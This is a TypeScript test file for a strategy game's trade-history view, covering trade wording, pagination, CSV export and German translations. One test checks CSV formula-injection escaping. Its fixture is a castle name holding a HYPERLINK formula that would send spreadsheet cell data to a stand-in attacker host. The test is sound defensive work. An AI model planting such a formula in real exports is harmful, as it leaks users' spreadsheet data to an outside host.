import { expect, test } from 'bun:test';
import { appendTrades, nextPageQuery, tradeDetails, tradesCsv, tradeTitle, type TradeRow } from './trades-view';

const sold: TradeRow = {
  id: 'a',
  at: '2026-11-25T10:00:00.000Z',
  side: 'sell',
  resource: 'wood',
  amount: 2_000,
  price: 3,
  coins: 60,
  reason: 'wood above 6,000 (your surplus rule)',
  executed: true,
  market: 'ours',
};
const would: TradeRow = {
  ...sold,
  id: 'b',
  at: '2026-11-25T09:00:00.000Z',
  side: 'buy',
  resource: 'stone',
  price: null,
  coins: null,
  executed: false,
  market: 'none',
  reason: 'stone below 3,000, "reserve"',
};
const sent: TradeRow = {
  ...sold,
  id: 'c',
  at: '2026-11-25T08:00:00.000Z',
  side: 'send',
  resource: 'stone',
  amount: 700,
  to: 'Thornwall',
  price: null,
  coins: null,
  market: 'carriage',
  reason: 'Thornwall holds 300 stone, under your reserve of 1,000; Home had 4,200 above your surplus line',
};

test('a trade reads as what was done, then its price and coins; a would-be trade says nothing was traded', () => {
  expect(tradeTitle(sold)).toBe('Sold 2,000 wood');
  expect(tradeDetails(sold)).toBe('3 coins per 100 · 60 coins received');
  expect(tradeTitle(would)).toBe('Would buy 2,000 stone');
  expect(tradeDetails(would)).toBe('No price: nothing was traded');
  expect(tradeDetails({ ...sold, side: 'buy', price: 1, coins: 20 })).toBe('1 coin per 100 · 20 coins paid');
});

test('a carriage send reads as goods sent to the castle, with no coins', () => {
  expect(tradeTitle(sent)).toBe('Sent 700 stone to Thornwall by market barrow');
  expect(tradeDetails(sent)).toBe('Between your own castles: no coins');
});

test('the next page starts before the last trade shown; a page adds no trade twice', () => {
  expect(nextPageQuery([], 25)).toEqual({ limit: 25 });
  expect(nextPageQuery([sold, would], 25)).toEqual({ limit: 25, before: would.at });
  expect(appendTrades([sold], [sold, would]).map((t) => t.id)).toEqual(['a', 'b']);
});

test('CSV: a header, one row per trade, quotes where a value needs them, empty for no price', () => {
  expect(tradesCsv([sold, would, sent])).toBe(
    'time,side,resource,amount,to,price per 100,coins,traded,market,reason\r\n' +
      '2026-11-25T10:00:00.000Z,sell,wood,2000,,3,60,true,ours,"wood above 6,000 (your surplus rule)"\r\n' +
      '2026-11-25T09:00:00.000Z,buy,stone,2000,,,,false,none,"stone below 3,000, ""reserve"""\r\n' +
      '2026-11-25T08:00:00.000Z,send,stone,700,Thornwall,,,true,carriage,"Thornwall holds 300 stone, under your reserve of 1,000; Home had 4,200 above your surplus line"\r\n',
  );
});

test('CSV: a castle named like a formula (the game lets players name castles) comes out as text, in the "to" and the reason', () => {
  const castle = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
  const csv = tradesCsv([{ ...sent, to: castle, reason: `${castle} holds 300 stone, under your reserve of 1,000` }]);
  expect(csv.split('\r\n')[1]).toBe(
    `2026-11-25T08:00:00.000Z,send,stone,700,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",,,true,carriage,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"") holds 300 stone, under your reserve of 1,000"`,
  );
  expect(tradesCsv([{ ...sent, to: '@Thornwall' }]).split('\r\n')[1]).toContain(",'@Thornwall,");
});

test('in German a trade reads with German words and numbers', async () => {
  const { readCatalogue } = await import('@shared/i18n/catalogue-files');
  const { messagesIn } = await import('@shared/i18n/messages');
  const { tradeLineMessages } = await import('./trades.messages');
  const de = messagesIn('de', tradeLineMessages, readCatalogue().catalogue);
  expect(tradeTitle(sold, de, 'de')).toBe('2.000 Holz verkauft');
  expect(tradeDetails(sold, de)).toBe('3 Münzen pro 100 · 60 Münzen erhalten');
  expect(tradeTitle({ ...sent, to: undefined }, de, 'de')).toBe('700 Stein mit Handelskarren an eine andere Burg geschickt');
});
